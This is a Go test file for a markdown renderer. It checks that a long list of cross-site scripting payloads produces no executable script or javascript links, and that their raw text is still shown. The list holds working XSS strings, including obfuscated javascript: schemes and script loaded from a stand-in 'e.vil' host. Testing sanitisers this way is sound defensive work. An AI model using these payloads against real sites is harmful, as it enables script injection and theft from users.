package markdown

import (
	"strings"
	"testing"
)

// payloads are ways to smuggle something that runs through a renderer.
var payloads = []string{
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//e.vil/x.js></SCRIPT>",
	"text <script>alert(1)</script> text",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>",
	"<img src=\"x\" onerror=\"alert(1)\">",
	"text <img/src=x/onerror=alert(1)> text",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
	"<iframe src=\"javascript:alert(1)\"></iframe>",
	"<iframe srcdoc=\"<script>alert(1)</script>\">",
	"<body onload=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href=javascript:alert(1)>x</a>",
	"<form action=\"javascript:alert(1)\"><input type=submit>",
	"<input autofocus onfocus=alert(1)>",
	"<style>@import 'javascript:alert(1)';</style>",
	"<p style=\"background:url(javascript:alert(1))\">x</p>",
	"<link rel=stylesheet href=//e.vil/x.css>",
	"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
	"<base href=\"javascript:alert(1)//\">",
	"<object data=\"javascript:alert(1)\">",
	"<embed src=\"javascript:alert(1)\">",
	"<!--><script>alert(1)</script>-->",
	"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
	"<!-- x --!><script>alert(1)</script>",
	"<?xml?><script>alert(1)</script>",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<textarea></textarea><script>alert(1)</script>",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x]( javascript:alert(1) )",
	"[x](<javascript:alert(1)>)",
	"[x](<java\tscript:alert(1)>)",
	"[x](<\x01javascript:alert(1)>)",
	"[x](javascript&colon;alert(1))",
	"[x](javascript&#58;alert(1))",
	"[x](&#x6A;avascript:alert(1))",
	"[x](&#0000106avascript:alert(1))",
	"[x](java&Tab;script:alert(1))",
	"[x](java&NewLine;script:alert(1))",
	"[x](java%0ascript:alert(1))",
	"[x](javascript%3Aalert(1))",
	"[x](%6Aavascript:alert(1))",
	"[x](java\\script:alert(1))",
	"[x](j\\&#97;vascript:alert(1))",
	"[x](vbscript:msgbox(1))",
	"[x](data:text/html,<script>alert(1)</script>)",
	"[x](data:text/html;base64,PHNjcmlwdD4=)",
	"[x](blob:https://e.vil/1)",
	"[x](file:///etc/passwd)",
	"[x](view-source:javascript:alert(1))",
	"[x](feed:javascript:alert(1))",
	"[x](jar:javascript:alert(1)!/)",
	"[x](a.md \"onmouseover=alert(1)\")",
	"[x](a.md '\"><script>alert(1)</script>')",
	"[x](a.md \"&quot; onmouseover=alert(1) x=&quot;\")",
	"[x](\"onmouseover=alert(1)//)",
	"[x](<a\"onmouseover=alert(1)>)",
	"[<script>alert(1)</script>](a.md)",
	"[x][y]\n\n[y]: javascript:alert(1)",
	"[x][y]\n\n[y]: <a\"> \"'><script>alert(1)</script>\"",
	"[y]\n\n[y]: data:text/html,x '\" onclick=alert(1) '",
	"![x](javascript:alert(1))",
	"![x](data:image/svg+xml,<svg onload=alert(1)>)",
	"![\"onerror=alert(1) x=\"](x.png)",
	"![<script>alert(1)</script>](x.png)",
	"![x](x.png \"\\\"onerror=alert(1)\")",
	"![x](x\"onerror=\"alert(1).png)",
	"[![x](javascript:alert(1))](javascript:alert(1))",
	"<javascript:alert(1)>",
	"<JAVASCRIPT:alert(1)>",
	"<data:text/html,x>",
	"<https://e.vil/\"onmouseover=\"alert(1)>",
	"https://e.vil/\"onmouseover=\"alert(1)",
	"https://e.vil/<script>alert(1)</script>",
	"www.e.vil/'onmouseover='alert(1)",
	"<\"onmouseover=alert(1)\"@e.vil>",
	"javascript:alert(1)",
	"[[javascript:alert(1)]]",
	"[[x\"onmouseover=\"alert(1)]]",
	"[[x|<script>alert(1)</script>]]",
	"[[<script>alert(1)</script>]]",
	"[[x#\"><script>alert(1)</script>]]",
	"# <script>alert(1)</script>",
	"# \"onmouseover=alert(1)",
	"# x {#\"onclick=alert(1) onclick=alert(1)}",
	"`<script>alert(1)</script>`",
	"    <script>alert(1)</script>",
	"```\n<script>alert(1)</script>\n```",
	"```html\n<script>alert(1)</script>\n```",
	"```\"><script>alert(1)</script>\nx\n```",
	"```js\"onmouseover=alert(1)\nx\n```",
	"```x title=\"\\\"><script>alert(1)</script>\"\nx\n```",
	"```x title=\"&quot;&gt;&lt;script&gt;alert(1)\" {\"}\nx\n```",
	"```mermaid\n<script>alert(1)</script>\n</pre><script>alert(1)</script>\n```",
	"```diff\n+<script>alert(1)</script>\n```",
	"> [!NOTE]\n> <script>alert(1)</script>",
	"> [!\"onclick=alert(1)]\n> x",
	"| <script>alert(1)</script> | \"onclick=alert(1) |\n|-|-|\n| <img src=x onerror=alert(1)> | |",
	"- [x] <script>alert(1)</script>",
	"x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: <script>alert(1)</script>",
	"<b>x\n: <script>alert(1)</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"\\<script>alert(1)\\</script>",
	"\x00<script\x00>alert(1)</script>",
	"<script\n>alert(1)</script\n>",
	"\xff<script>alert(1)</script>",
	"＜script＞alert(1)＜/script＞",
}

func TestNothingRuns(t *testing.T) {
	if len(payloads) < 60 {
		t.Fatal("too few payloads")
	}
	e := New(Options{})
	for _, p := range payloads {
		for _, text := range []string{p, "a " + p + " b", "> - " + p, "*" + p + "*", "[" + p + "](x.md)"} {
			for _, doc := range []*Document{e.Parse([]byte(text), "x"), e.Inline(text)} {
				html := doc.HTML(RenderOptions{})
				if err := checkHTML(html); err != nil {
					t.Errorf("%q: %v in %s", text, err, html)
				}
				// checkHTML reads attributes; a reader who looks for them in the text of
				// a page would find these.
				if s := strings.ToLower(html); strings.Contains(s, "<script") || strings.Contains(s, "href=\"javascript") {
					t.Errorf("%q: %s", text, html)
				}
			}
		}
	}
}

// Nothing is lost either: every payload's text is still there to be read.
func TestRawHTMLIsShown(t *testing.T) {
	e := New(Options{})
	for _, p := range payloads {
		if !strings.HasPrefix(p, "<") || strings.HasPrefix(p, "<!--") || strings.HasPrefix(p, "<https:") || strings.ContainsAny(p, "\x00\n") {
			continue
		}
		for _, text := range []string{p, "a " + p} {
			if plain := e.Parse([]byte(text), "").Plain(); collapse(plain) != collapse(text) {
				t.Errorf("%q: %q", text, plain)
			}
		}
	}
}
